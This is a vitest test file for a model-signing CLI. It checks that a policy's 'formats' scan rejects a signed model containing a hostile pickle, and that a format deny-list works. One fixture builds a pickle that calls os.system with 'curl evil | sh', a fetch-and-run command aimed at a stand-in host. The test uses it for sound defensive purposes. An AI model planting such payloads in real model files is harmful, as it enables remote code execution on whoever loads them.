/**
 * The policy's `formats` section, end to end: a signed model is verified through a policy file
 * that scans or denies formats. The signature is valid; the content is what gets it refused.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cleanupTmp, keypair, runCli, tmpDir } from '../helpers/cli.js';
import { benignOrderedDict, osSystemProtocol4, torchZip, validSafetensors } from '../helpers/scan-fixtures.js';

afterAll(cleanupTmp);

describe('verify --policy with formats', () => {
  let dir: string;
  let keys: { key: string; pub: string };

  async function signed(name: string, files: Record<string, Buffer>): Promise<string> {
    const m = path.join(dir, name);
    await mkdir(m, { recursive: true });
    for (const [f, b] of Object.entries(files)) await writeFile(path.join(m, f), b);
    const r = await runCli(['sign', m, '--key', keys.key, '--version', '1.0.0', '--license', 'apache-2.0']);
    expect(r.code, r.stderr).toBe(0);
    return m;
  }
  async function policy(name: string, formats: string): Promise<string> {
    const p = path.join(dir, name);
    await writeFile(p, `apiVersion: modelsign/v1\ntrust:\n  keys: [${keys.pub}]\nlicense:\n  deploy: { allow: [apache-2.0] }\nformats: ${formats}\n`);
    return p;
  }

  beforeAll(async () => {
    dir = await tmpDir();
    keys = await keypair(dir);
  });

  it('scan: true blocks a signed model with a hostile pickle (exit 1, names the import)', async () => {
    const m = await signed('hostile', { 'pytorch_model.bin': torchZip(osSystemProtocol4('curl evil | sh')), 'config.json': Buffer.from('{}') });
    const p = await policy('scan.yaml', '{ scan: true }');
    const r = await runCli(['verify', m, '--policy', p, '--json']);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.stdout);
    expect(j.verified).toBe(false);
    const f = j.failures.find((x: { code: string }) => x.code === 'SCAN_FINDING');
    expect(f.path).toBe('pytorch_model.bin');
    expect(f.message).toMatch(/os\.system|posix\.system/);
    // Without the policy the same model verifies: the signature itself is valid.
    expect((await runCli(['verify', m, '--key', keys.pub])).code).toBe(0);
  });

  it('scan: true passes a clean model (safetensors and a benign pickle)', async () => {
    const m = await signed('clean', { 'model.safetensors': validSafetensors(), 'extra.pkl': benignOrderedDict() });
    const p = await policy('scan-clean.yaml', '{ scan: true }');
    const r = await runCli(['verify', m, '--policy', p]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  });

  it('deny: [pickle] refuses a clean pickle-bearing model', async () => {
    const m = await signed('pickled', { 'model.safetensors': validSafetensors(), 'extra.pkl': benignOrderedDict() });
    const p = await policy('deny.yaml', '{ deny: [pickle] }');
    const r = await runCli(['verify', m, '--policy', p]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('[FORMAT_DENIED]');
    expect(r.stdout).toContain('extra.pkl');
  });

  it('an unknown format name in the policy is a usage error naming the field', async () => {
    const p = await policy('bad.yaml', '{ deny: [pikle] }');
    const r = await runCli(['policy', 'check', p]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('formats.deny[0]: unknown format "pikle"');
  });
});
